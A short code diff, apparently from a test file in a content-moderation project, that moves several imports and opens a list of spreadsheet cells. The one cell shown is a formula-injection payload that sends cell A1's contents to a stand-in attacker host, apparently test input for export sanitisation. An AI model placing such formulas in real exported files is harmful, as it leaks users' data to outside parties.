@@ -17,10 +17,10 @@ from pyarrow import parquet
 
 from moderation.models import Case, User
 from moderation.models.cases import Verdict
-from moderation.operations import export_write
 from moderation.operations.cases import review
 from moderation.operations.intake.incoming_post import IncomingAuthor
-from moderation.queries.labels import LabelFilter
+from moderation.operations.labels import export_write
+from moderation.queries.labels.labels import LabelFilter
 
 CELLS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
